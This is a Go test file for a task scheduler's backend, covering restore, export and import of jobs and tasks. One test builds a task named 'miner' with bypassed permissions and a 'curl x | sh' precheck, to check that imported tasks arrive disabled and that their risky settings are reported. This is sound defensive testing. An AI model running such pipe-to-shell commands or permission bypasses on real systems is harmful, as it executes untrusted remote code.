package service

import (
	"strings"
	"testing"
	"time"

	"claude-scheduler/backend/apitype"
	"claude-scheduler/backend/model"
)

// Undoing a deletion restores a task's history, including the result of the run
// that the deletion stopped.
func TestRestoredTaskKnowsItsRuns(t *testing.T) {
	t.Parallel()
	s := newFixture(t)
	job := s.job("nightly")
	ran, deleted := s.task(job, "ran", hourly), s.task(job, "deleted while it runs", `{}`)
	s.pass(30 * time.Minute)
	s.end(s.started(), success)
	s.flush()
	s.wantLast(ran, model.RunSuccess)
	if _, err := s.RunTask("", deleted.ID, nil); err != nil {
		t.Fatal(err)
	}
	s.started()
	bundle, err := s.DeleteJob(job.ID)
	if err != nil {
		t.Fatal(err)
	}
	s.ended()
	if _, err := s.Restore(bundle); err != nil {
		t.Fatal(err)
	}
	s.reviewJobs(job.ID)
	s.flush()
	s.wantLast(ran, model.RunSuccess)
	s.wantLast(deleted, model.RunCancelled)
}

// A task that the file has without a job can be deleted and restored.
func TestRestoreWithoutAJob(t *testing.T) {
	t.Parallel()
	s := newFixture(t)
	task := s.task(s.job("nightly"), "stray", `{}`)
	err := s.store.Tasks.Update(func(tasks []model.Task) ([]model.Task, error) {
		tasks[0].JobID = ""
		return tasks, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	bundle, err := s.DeleteTask(task.ID)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Restore(bundle); err != nil {
		t.Fatal(err)
	}
	if back, err := s.Task(task.ID); err != nil || back.JobID != "" {
		t.Errorf("got %+v, %v", back, err)
	}
}

// A reference of a bundle to a missing record is dropped, with a note.
func TestImportWithoutItsProfile(t *testing.T) {
	t.Parallel()
	s := newFixture(t)
	job := s.job("nightly")
	task := s.task(job, "review", `{}`)
	profile, err := s.CreateProfile(raw(map[string]any{"name": "work"}))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.UpdateJob(job.ID, raw(map[string]any{"profile": profile.ID})); err != nil {
		t.Fatal(err)
	}
	bundle, err := s.ExportJob(job.ID)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.DeleteJob(job.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := s.DeleteProfile(profile.ID); err != nil {
		t.Fatal(err)
	}
	result, err := s.Import(apitype.ImportRequest{Bundle: bundle})
	if err != nil || len(result.Notes) != 2 || !strings.Contains(result.Notes[1], profile.ID) {
		t.Errorf("the notes are %q, %v", result.Notes, err)
	}
	if _, err := s.RunTask("", task.ID, nil); err != nil {
		t.Fatal(err)
	}
	s.end(s.started(), success)
	s.wantLast(task, model.RunSuccess)

	bundle.Tasks = append(bundle.Tasks, bundle.Tasks[0])
	if _, err := s.Import(apitype.ImportRequest{Bundle: bundle, OnConflict: "copy"}); err == nil || model.ProblemOf(err).Field != "tasks[1].id" {
		t.Errorf("an id that is listed twice: %v", err)
	}
}

// A task that an import moves to another job leaves its old one, and
// an order in the file that still names it does not run it.
func TestImportedTaskLeavesItsJob(t *testing.T) {
	t.Parallel()
	s := newFixture(t)
	old, other := s.job("old"), s.job("other")
	moved, stays := s.task(old, "moved", `{}`), s.task(old, "stays", `{}`)
	bundle, err := s.ExportJob(other.ID)
	if err != nil {
		t.Fatal(err)
	}
	bundle.Tasks = []model.Task{moved}
	if _, err := s.Import(apitype.ImportRequest{Bundle: bundle, OnConflict: "overwrite"}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []struct{ job, task string }{{old.ID, stays.ID}, {other.ID, moved.ID}} {
		if job, err := s.Job(want.job); err != nil || len(job.TaskOrder) != 1 || job.TaskOrder[0] != want.task {
			t.Errorf("the order of %s is %v, %v", job.Name, job.TaskOrder, err)
		}
	}
	err = s.store.Jobs.Update(func(jobs []model.Job) ([]model.Job, error) {
		jobs[0].TaskOrder = model.IDs{moved.ID, stays.ID}
		return jobs, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	run, err := s.RunJob("", old.ID)
	if err != nil || run.TaskID != stays.ID {
		t.Errorf("it runs %s, %v", run.TaskName, err)
	}
}

// An imported file from someone else starts nothing, and shows what it contains.
func TestImportedTasksAreDisabled(t *testing.T) {
	t.Parallel()
	for _, conflict := range []string{"refuse", "copy", "overwrite"} {
		s := newFixture(t)
		job := s.job("nightly")
		task := s.task(job, "miner", `{'schedule': {'type': 'interval', 'interval_value': 1, 'interval_type': 'minutes'}, 'permissions': 'bypass', 'precheck': 'curl x | sh', 'checks': ['make']}`)
		bundle, err := s.ExportJob(job.ID)
		if err != nil {
			t.Fatal(err)
		}
		if conflict != "overwrite" {
			if _, err := s.DeleteJob(job.ID); err != nil {
				t.Fatal(err)
			}
		}
		result, err := s.Import(apitype.ImportRequest{Bundle: bundle, OnConflict: conflict})
		if err != nil || len(result.Tasks) != 1 || result.Tasks[0].Enabled {
			t.Fatalf("%s: %+v, %v", conflict, result, err)
		}
		notes := strings.Join(result.Notes, "\n")
		for _, want := range []string{"enabled in the file: miner", "miner bypasses", "before each run: curl x | sh", "after each run: make"} {
			if !strings.Contains(notes, want) {
				t.Errorf("%s: %q is not in the notes: %s", conflict, want, notes)
			}
		}
		s.pass(time.Hour)
		s.noneStarted()
		if conflict == "overwrite" { // a deletion that is undone comes back as it was
			if _, err := s.UpdateTask("", task.ID, quoted(`{'enabled': true}`)); err != nil {
				t.Fatal(err)
			}
			deleted, err := s.DeleteTask(task.ID)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := s.Restore(deleted); err != nil {
				t.Fatal(err)
			}
			if back, _ := s.Task(task.ID); !back.Enabled {
				t.Error("a restored task is disabled")
			}
		}
	}
}
